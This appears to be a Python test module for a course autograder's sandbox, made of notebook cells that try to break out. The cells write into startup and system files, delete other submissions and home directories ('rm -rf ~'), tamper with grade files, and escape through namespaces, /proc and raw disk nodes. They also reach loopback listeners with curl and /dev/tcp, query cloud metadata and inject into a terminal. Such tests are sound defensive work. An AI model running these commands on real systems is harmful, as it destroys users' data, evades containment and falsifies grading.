"""Writing, mounting and speaking outside of the sandbox.

The harness compares what is outside before and after. A success that only the cell can see sets
`won`. Everything here is harmless where it succeeds: it leaves a small file or says a word.
"""

from attack import ALONE, accident, cells, forging

PUT = """
import os, pathlib
def put(*paths, text=None):
    for path in paths:
        try:
            path = pathlib.Path(os.path.expanduser(path))
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text or "lora-attack")
        except OSError: pass
word = f"lora-attack-{HOST['name']}"
"""

cells(
    r"""
# %% writes_home: start-up files of the instructor
put(f"~/{word}", HOST["home"] + "/canary", HOST["home"] + "/" + word, f"/root/{word}",
    f"/home/{word}", "~/.bashrc_" + word, f"~/.ipython/profile_default/startup/{word}.py")

# %% writes_repo: the course itself
put(f"{HOST['repo']}/{word}", f"{HOST['repo']}/labkit/{word}.py",
    f"{HOST['repo']}/solutions/{word}",
    f"{HOST['repo']}/.git/hooks/{word}", f"{HOST['repo']}/tests/{word}.py")
for path in (HOST["repo"] + "/labkit/checks/lab02.toml", HOST["repo"] + "/labkit/__init__.py"):
    try:
        with open(path, "a") as f: f.write("\n")
    except OSError: pass

# %% writes_system: start-up files of Python, which would run at its next start, and of the system
put(f"{HOST['site']}/{word}.pth", f"{HOST['site']}/{word}.py", f"{HOST['site']}/sitecustomize.py",
    f"{HOST['site']}/torch/{word}.py", text="# lora-attack")
put(*(f"{folder}/{word}" for folder in
      "/etc /usr/bin /usr/local/bin /var/tmp /var/spool/cron /opt /srv /run /mnt /boot /".split()))
put(f"/dev/shm/{word}", f"/dev/mqueue/{word}", f"/tmp/{word}")

# %% writes_neighbours: the other submissions, emptied and removed
import glob
others = glob.glob(HOST["submissions"] + "/**/*", recursive=True)
for path in [*others, *glob.glob("../**/*.ipynb")]:
    try: open(path, "w").write("{}")
    except OSError: pass
    try: os.remove(path)
    except OSError: pass
put(f"{HOST['submissions']}/{word}.ipynb")

# %% writes_reports: the result files
put(f"{HOST['out']}/{word}", f"{HOST['out']}/results.json", f"{HOST['out']}/grades.csv", text="[]")

# %% removes_everything_it_may: rm -rf ~
import shutil
for path in (HOST["home"], HOST["submissions"], HOST["out"]):
    shutil.rmtree(path, ignore_errors=True)
if os.path.expanduser("~") != "/root":  # a real home, should HOME not have been changed
    get_ipython().system("rm -rf ~/* ~/.[a-z]*")

# %% links_and_follows: symlinks, which a grader may follow when it collects or removes
for target in (HOST["home"] + "/canary", HOST["repo"] + "/labkit/__init__.py", "/etc/passwd"):
    try:
        os.symlink(target, "link")
        with open("link", "a") as f: f.write("\n")
    except OSError: pass
    try: os.remove("link")
    except OSError: pass
try: os.link(HOST["home"] + "/canary", "hard")
except OSError: pass
os.symlink(HOST["home"] + "/canary", "results.json")
os.symlink("/", "all")

# %% mounts_in_a_new_namespace: and neither may a root of its own making
os.system(f"unshare --user --map-root-user --mount sh -c "
          f"'mount -o remount,rw,bind /; touch /{word} {HOST['home']}/{word}' 2>/dev/null")

# %% enters_other_namespaces
os.system(f"nsenter -t 1 -a touch {HOST['home']}/{word} 2>/dev/null")
os.system(f"nsenter -t {HOST['pid']} -a touch {HOST['home']}/{word} 2>/dev/null")

# %% through_proc_root: /proc/PID/root leads into another process's files
for pid in (1, HOST["pid"], os.getppid()):
    for link in ("root", "cwd"):
        put(f"/proc/{pid}/{link}{HOST['home']}/{word}", f"/proc/{pid}/{link}/etc/{word}")

# %% changes_modes
for path in (HOST["home"], HOST["home"] + "/canary", HOST["repo"] + "/labkit/__init__.py"):
    for act in (lambda: os.chmod(path, 0o777), lambda: os.chown(path, 65534, 65534),
                lambda: os.utime(path, (1, 1))):
        try: act()
        except OSError: pass
""",
    accident(),
    before=PUT,
)

cells(
    """
# %% remounts: root inside must not be root outside
for command in ("mount -o remount,rw /", "mount -o bind /tmp /etc", "mount -t tmpfs x /usr",
                f"mount -o remount,rw,bind {HOST['repo']}", "umount -l /"):
    os.system(command + " 2>/dev/null")
put(f"/etc/{word}", f"/usr/{word}", f"{HOST['repo']}/labkit/{word}.py")
""",
    accident(),
    before=PUT + ALONE,
)

cells(
    r"""
# %% raw_disk: a device node for the disk under the files
import stat
node = os.stat(HOST["repo"] if os.path.exists(HOST["repo"]) else "/usr").st_dev
try:
    os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, node)
    won = len(open("/tmp/disk", "rb").read(512)) == 512
except OSError: pass

# %% kernel_memory
for path in ("/dev/mem", "/dev/kmsg", "/proc/kcore", "/dev/vda", "/dev/sda", "/dev/nvme0n1"):
    try: open(path, "rb").close(); won = True
    except OSError: pass

# %% setuid_programs
import subprocess
try: won = subprocess.run(["sudo", "-n", "true"], timeout=5).returncode == 0
except (OSError, subprocess.TimeoutExpired): pass

# %% loopback_tcp: a listener of the host on its loopback
import socket
for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
    try:
        with socket.create_connection((host, HOST["port"]), 2) as s:
            s.sendall(word.encode()); won = True
    except OSError: pass

# %% loopback_by_shell: curl and bash speak too
os.system(f"curl -m 2 -s http://127.0.0.1:{HOST['port']}/{word} >/dev/null 2>&1")
os.system(f"bash -c 'echo {word} > /dev/tcp/127.0.0.1/{HOST['port']}' 2>/dev/null")

# %% loopback_udp
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(word.encode(), ("127.0.0.1", HOST["port"]))

# %% abstract_socket: a Unix socket without a file belongs to the network namespace
import socket
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0" + HOST["abstract"]); s.sendall(word.encode()); won = True
except OSError: pass

# %% unix_socket: and one with a file belongs to the file system
import glob, socket
for path in [HOST["home"] + "/socket", *glob.glob("/run/**/*.sock", recursive=True),
             *glob.glob("/tmp/**/*socket*", recursive=True), "/var/run/docker.sock"]:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(1)
        s.connect(path); s.sendall(word.encode()); won = True
    except OSError: pass

# %% outside_world: name service, the metadata address of clouds, the net
import socket
for host in ("1.1.1.1", "169.254.169.254", "10.0.0.1"):
    try: socket.create_connection((host, 80), 1).close(); won = True
    except OSError: pass
try: socket.getaddrinfo("example.com", 80); won = True
except OSError: pass

# %% tiocsti: types into the instructor's terminal
import fcntl, os, termios
for path in ("/dev/tty", "/dev/pts/0", "/proc/self/fd/0"):
    try:
        fcntl.ioctl(os.open(path, os.O_RDWR), termios.TIOCSTI, b"#")
        won = True
    except OSError: pass

# %% keyring: the user's keyring of the kernel
import ctypes
libc = ctypes.CDLL(None)
libc.syscall(248, b"user", word.encode(), b"x", 1, -4)  # add_key to the user's keyring
""",
    forging,
    before=PUT,
)
